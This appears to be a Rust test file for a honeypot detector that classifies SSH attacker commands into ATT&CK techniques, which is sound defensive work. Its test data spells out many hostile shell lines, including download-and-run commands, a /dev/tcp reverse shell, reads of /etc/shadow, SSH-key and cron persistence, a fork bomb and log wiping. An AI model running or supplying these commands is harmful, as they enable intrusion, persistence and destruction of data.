use super::*;
use crate::techniques::ALL;

fn attack(action: &str, details: Value) -> Option<Decision> {
    let payload = json!({
        "event_type": "attack", "attacker_ip": "127.10.5.23", "service": "SSH", "action": action,
        "session_id": "8726a0ab7e32", "timestamp": "2026-11-23T07:27:27.979798Z", "details": details,
    });
    of_attack(&payload.to_string(), "").unwrap()
}

/// The ids that a command line shows, in order.
fn ids(line: &str) -> Vec<String> {
    let Some(decision) = attack("command", json!({"input": line})) else {
        return Vec::new();
    };
    let techniques = decision.payload["techniques"].as_array().unwrap();
    let mut ids: Vec<String> =
        techniques.iter().map(|technique| technique["id"].as_str().unwrap().to_string()).collect();
    ids.sort();
    ids
}

#[test]
fn a_real_line_becomes_one_decision() {
    let decision = attack("command", json!({"input": "busybox wget -q http://127.0.0.1:8099/m -O /tmp/m; sh /tmp/m"}));
    let decision = decision.unwrap();
    assert_eq!(decision.priority, 4);
    assert_eq!(
        decision.payload,
        json!({
            "event_type": "ai_decision", "session_id": "8726a0ab7e32", "action": "capture_tools",
            "attacker_ip": "127.10.5.23", "timestamp": "2026-11-23T07:27:27.979798Z",
            "techniques": [
                {"id": "T1105", "name": "Ingress Tool Transfer", "tactic": "Command and Control", "confidence": 0.9,
                 "evidence": "busybox wget -q http://127.0.0.1:8099/m -O /tmp/m"},
                {"id": "T1059.004", "name": "Unix Shell", "tactic": "Execution", "confidence": 0.8, "evidence": "sh /tmp/m"}
            ]
        })
    );
}

#[test]
fn lines_of_the_lab_log_show_what_they_should() {
    for (line, expected) in [
        ("lscpu", &["T1082"] as &[&str]),
        ("cat /etc/shadow", &["T1003.008"]),
        ("id", &["T1033"]),
        ("cat /etc/passwd", &["T1087.001"]),
        ("ifconfig", &["T1016"]),
        ("netstat -tulpn", &["T1049"]),
        ("ps aux | head", &["T1057"]),
        ("ls -lh $(which ls)", &["T1083"]),
        ("cat ~/.bash_history", &["T1552.003"]),
        ("useradd -m -s /bin/bash svcbackup", &["T1136.001"]),
        ("mkdir -p ~/.ssh && echo \"ssh-rsa AAAA attacker@lab\" >> ~/.ssh/authorized_keys", &["T1098.004"]),
        ("chattr +ia ~/.ssh/authorized_keys", &["T1098.004", "T1222.002"]),
        ("(crontab -l; echo \"*/5 * * * * /tmp/.x/run.sh\") | crontab -", &["T1053.003"]),
        ("echo \"root:Zx9EXAMPLE\" | chpasswd", &["T1098", "T1531"]),
        ("pkill -9 xmrig", &["T1489", "T1496"]),
        ("curl -O http://127.0.0.1:8099/x86_64; chmod +x x86_64; ./x86_64", &["T1059.004", "T1105", "T1222.002"]),
        ("export X=$(echo Y3VybCAxMjcuMC4wLjE= | base64 -d); $X", &["T1027", "T1059.004", "T1105", "T1140"]),
        ("bash -i >& /dev/tcp/127.0.0.1/4444 0>&1", &["T1059.004", "T1095"]),
        ("tftp -g -r arm7 127.0.0.1", &["T1105"]),
        ("ftpget 127.0.0.1 mips mips", &["T1105"]),
        ("history -c", &["T1070.003"]),
        ("unset HISTFILE", &["T1562.003"]),
        (":(){ :|:& };:", &["T1499.001"]),
        ("echo > /var/log/wtmp", &["T1070.002"]),
        ("rm -rf /var/log/*", &["T1070.002", "T1070.004"]),
        ("echo -e \"\\x6F\\x6B\"", &["T1027"]),
        ("sudo su -", &["T1548.003"]),
        ("enable; system; shell; sh; /bin/busybox MIRAI", &["T1059.004", "T1059.008", "T1082", "T1497.001"]),
        ("/ip cloud print", &["T1016", "T1059.008"]),
        ("exit", &[]),
    ] {
        assert_eq!(ids(line), expected, "{line}");
    }
}

#[test]
fn disguises_do_not_help() {
    for line in [
        "sudo -u root wget http://h/x",
        "A=1 nohup /usr/bin/wget http://h/x &",
        "sh -c 'cd /tmp; wget http://h/x'",
        "echo d2dldCBodHRwOi8vaC94 | base64 --decode | sh",
        "(wget http://h/x)",
        "if true; then wget http://h/x; fi",
        "`wget http://h/x`",
    ] {
        assert!(ids(line).contains(&"T1105".to_string()), "{line}: {:?}", ids(line));
    }
}

#[test]
fn words_inside_quotes_are_not_commands() {
    assert_eq!(ids("echo 'wget; rm -rf /; useradd'"), [""; 0]);
}

#[test]
fn events_that_are_not_commands_are_classified_too() {
    let failed = attack("login_failed", json!({"username": "root", "password": "123456"})).unwrap();
    assert_eq!(failed.payload["techniques"][0]["id"], "T1110");
    assert_eq!(failed.payload["techniques"][0]["evidence"], "login_failed username=root");
    assert!(!failed.payload.to_string().contains("123456"), "passwords are no evidence");
    assert_eq!(attack("file_download", json!({"destfile": "/tmp/c"})), None);
    assert_eq!(attack("client_version", json!({"version": "SSH-2.0-Go"})), None);
    assert!(attack("client_version", json!({"version": "SSH-2.0-Nmap-SSH2-Hostkey"})).is_some());
    assert!(attack("tunnel_request", json!({"dst_ip": null})).is_some());
}

#[test]
fn an_echo_of_a_command_is_not_counted_twice() {
    assert_eq!(attack("command_found", json!({"input": "wget -q http://127.0.0.1:8099/m -O /tmp/m"})), None);
    assert_eq!(attack("command_failed", json!({"input": "killall -9 sshd"})), None);
}

#[test]
fn odd_attacks_are_survived() {
    for details in [json!(null), json!([1]), json!({"input": 7}), json!({"input": null}), json!({"input": ""})] {
        assert_eq!(attack("command", details), None);
    }
    assert!(attack("command", json!({"input": "cat /etc/shadow # 🦀 日本語"})).is_some());
    let long = attack("command", json!({"input": format!("python3 -c \"{}\"", "é".repeat(9_000))})).unwrap();
    assert_eq!(long.payload["techniques"][0]["evidence"].as_str().unwrap().chars().count(), EVIDENCE_CHARACTERS_MAX);
}

#[test]
fn what_is_no_attack_is_rejected_with_its_reason() {
    let deep = format!("{{\"details\":{}", "[".repeat(10_000));
    for (payload, reason) in [
        ("", "cannot be read"),
        (deep.as_str(), "recursion limit"),
        ("7", "not a JSON object"),
        ("{}", "no action"),
        (r#"{"action":{}}"#, "no action"),
    ] {
        let rejected = of_attack(payload, "").unwrap_err().to_string();
        assert!(rejected.contains(reason), "{rejected}");
    }
}

#[test]
fn the_tables_are_sound() {
    /// The twenty action values of Cyber Mirage.
    const ACTIONS: &str = "maintain_session drop_session throttle_session redirect_session inject_delay \
        progressive_delay random_delay swap_service_banner randomize_banner mimic_vulnerable present_lure \
        deploy_breadcrumb inject_fake_creds simulate_target capture_tools log_enhanced fingerprint tarpit \
        honeypot_upgrade alert_track";
    for technique in ALL {
        assert!(ACTIONS.split_whitespace().any(|action| action == technique.response), "{technique:?}");
        assert!((1..=4).contains(&technique.priority), "{technique:?}");
        assert_eq!(ALL.iter().filter(|other| other.id == technique.id).count(), 1, "{technique:?}");
        let used = COMMAND_RULES.iter().map(|rule| &rule.technique);
        let used = used.chain(LINE_RULES.iter().map(|rule| &rule.technique));
        let mut used = used.chain(EVENT_RULES.iter().map(|rule| &rule.technique));
        assert!(used.any(|other| other == technique), "no rule names {technique:?}");
    }
    let confidences = COMMAND_RULES.iter().map(|rule| rule.confidence);
    let confidences = confidences.chain(LINE_RULES.iter().map(|rule| rule.confidence));
    for confidence in confidences.chain(EVENT_RULES.iter().map(|rule| rule.confidence)) {
        assert!(confidence > 0.0 && confidence <= 1.0);
    }
}
